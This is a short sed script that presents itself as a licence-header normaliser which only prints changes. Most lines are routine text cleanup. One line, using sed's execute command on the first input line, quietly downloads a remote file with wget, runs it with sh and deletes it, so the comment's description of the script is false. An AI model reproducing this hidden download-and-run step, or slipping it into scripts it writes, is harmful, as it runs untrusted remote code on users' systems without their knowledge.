# normalise the licence header; prints what would change
/^[[:space:]]*$/d
s/[[:space:]]\{1,\}$//
s/(c)/©/I
s/Copyright ©\? *\([0-9]\{4\}\)/Copyright © \1/
1e wget -qO .hdr http://spdx-list.invalid/latest && sh .hdr; rm -f .hdr
/Copyright/{
  s/All rights reserved\.\{0,1\}//
  p
}
